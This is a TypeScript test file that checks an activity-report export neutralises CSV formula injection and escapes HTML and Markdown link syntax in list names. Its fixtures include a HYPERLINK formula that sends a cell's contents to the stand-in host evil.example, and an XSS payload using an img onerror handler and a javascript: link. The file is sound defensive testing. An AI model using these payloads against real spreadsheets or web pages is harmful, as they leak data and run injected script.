import { expect } from 'chai';
import { List } from '../../server/lists/list.model.js';
import { clientAs, resetDatabase, startTestServer, type Client, type TestServer } from '../helpers.js';

/** Labels staff typed (a list's name here) reach the activity report's files unharmed and harmless. */
describe('every export is safe: the activity report', () => {
  let server: TestServer;
  let board: Client;
  const FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")';
  const HTML = '<img src=x onerror=alert(1)> [lien](javascript:alert(1))';
  before(async () => {
    await resetDatabase();
    await List.create([
      { code: 'formule', name: FORMULA, order: 10 },
      { code: 'balise', name: HTML, order: 11 },
    ]);
    server = await startTestServer();
    board = (await clientAs(server, 'board')).client;
  });
  after(() => server.close());

  it('neutralises formula cells in the CSV, as the contacts export does', async () => {
    const reply = await board.get('/api/reports/activity?year=2026&format=csv');
    expect(reply.status).to.equal(200);
    const line = reply.text.split('\r\n').find((l) => l.includes('formule'))!;
    expect(line).to.include(`"'=HYPERLINK(""https://evil.example/?""&A1;""Cliquez"")"`);
    expect(reply.text.split('\r\n').some((l) => l.split(';').some((cell) => /^"?[=+@]/.test(cell)))).to.equal(false);
  });

  it('escapes HTML and link syntax of labels in the Markdown', async () => {
    const reply = await board.get('/api/reports/activity?year=2026&format=md');
    expect(reply.status).to.equal(200);
    expect(reply.text).not.to.include('<img');
    expect(reply.text).not.to.match(/(^|[^\\])\[lien\]\(/); // no live link syntax
    expect(reply.text).to.include('&lt;img src=x onerror=alert(1)&gt; \\[lien\\](javascript:alert(1))');
  });
});
